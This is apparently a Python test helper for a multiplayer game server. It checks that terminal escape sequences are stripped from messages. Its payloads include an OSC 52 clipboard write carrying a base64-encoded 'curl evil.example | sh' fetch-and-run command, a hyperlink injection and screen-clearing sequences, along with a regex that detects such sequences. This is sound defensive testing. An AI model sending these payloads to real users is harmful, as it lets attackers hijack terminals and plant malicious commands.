"""Helpers for the wire-abuse tests: the escape payloads of issue 13, an in-process room with bots, a listener.

The room is the real :class:`hosting.room.Room` with its table runners (tests.tui.roombots); clients reach it
through :class:`tui.connection.LocalConnection`, which validates every message as a remote line would be.
"""

from __future__ import annotations

import asyncio
import contextlib
import re
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

from hosting import protocol
from hosting.identity import Gatekeeper
from hosting.room import Room
from hosting.store import Store, StoreAccounts
from tests.tui.roombots import Bot, make_room, table
from tests.waiting import QUIET, until
from tui.connection import ConnectionLost, LocalConnection

PAYLOADS = {
    "OSC 52 (clipboard write)": "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x1b\\",
    "OSC 0 (window title)": "\x1b]0;you have been owned\x07",
    "OSC 8 (hyperlink)": "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    "ESC[2J (clear screen)": "\x1b[2J",
    "ESC[?1049l (leave the alternate screen)": "\x1b[?1049l",
}
EVIL = "before " + "".join(PAYLOADS.values()) + " after"
"""Every payload of the issue in one text, between two plain words."""
EVIL_CLEAN = "before click me after"
"""What :data:`EVIL` must become: the words kept, every sequence gone whole."""
UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]"
                    r"|\]52;|\]0;|\]8;|\[2J|\[\?1049")
"""A control or bidi character, or the leftovers of a half-removed sequence."""


def assert_clean(value: Any, where: str) -> None:
    """No string anywhere inside ``value`` carries a control character or the rest of an escape sequence."""
    text = protocol.encode(value).decode() if not isinstance(value, str) else value
    found = UNSAFE.search(text.replace("\\u001b", "\x1b").replace("\\u0007", "\x07"))
    assert found is None, f"{where}: {found.group()!r} in {text[:300]!r}"


class Listener:
    """A logged-in connection whose every message is kept in :attr:`received`."""

    def __init__(self, connection: LocalConnection) -> None:
        self.connection = connection
        self.received: list[dict[str, Any]] = []
        self._task = asyncio.get_running_loop().create_task(self._read())

    @classmethod
    async def attach(cls, room: Room, name: str, public_key: str | None = None) -> Listener:
        return cls(await LocalConnection.attach(room, name, public_key))

    async def _read(self) -> None:
        with contextlib.suppress(ConnectionLost):
            while True:
                self.received.append(await self.connection.receive())

    def of_type(self, kind: str) -> list[dict[str, Any]]:
        return [message for message in self.received if message.get("type") == kind]

    async def wait_for(self, condition: Callable[[], Any], what: str, timeout: float = QUIET) -> Any:
        """Until ``condition()``; fails once no message came for ``timeout`` seconds (tests.waiting)."""
        return await until(condition, what, quiet=max(timeout, QUIET), progress=lambda: len(self.received))

    async def close(self) -> None:
        self._task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await self._task
        await self.connection.close()


class WireRoom:
    """A started room with one table ``t1``, and everything the test opened on it (closed by the fixture)."""

    def __init__(self, room: Room) -> None:
        self.room = room
        self.bots: list[Bot] = []
        self.listeners: list[Listener] = []

    async def bot(self, name: str, **options: Any) -> Bot:
        bot = await Bot.seat(self.room, name, ["t1"], **options)
        self.bots.append(bot)
        return bot

    async def listener(self, name: str, public_key: str | None = None) -> Listener:
        listener = await Listener.attach(self.room, name, public_key)
        self.listeners.append(listener)
        return listener

    async def close(self) -> None:
        for listener in self.listeners:
            await asyncio.wait_for(listener.close(), 5)
        for bot in self.bots:
            await asyncio.wait_for(bot.stop(), 5)
        await asyncio.wait_for(self.room.stop(), 5)


async def wire_room(data_dir: Path, *, store: bool = False) -> AsyncIterator[WireRoom]:
    """A started room with table ``t1``; ``store``: with its database (hands kept, reports possible)."""
    room = make_room(data_dir, [table("t1")])
    if store:  # accounts in the store too, as `croupier host` keeps them: each new name gets its chips
        room.store = Store.open(data_dir)
        room.store.start()
        room.gatekeeper = Gatekeeper(room.gatekeeper.access, StoreAccounts(room.store))  # type: ignore[arg-type]
    room.start()
    started = WireRoom(room)
    try:
        yield started
    finally:
        await started.close()
        if room.store is not None:
            await room.store.close()
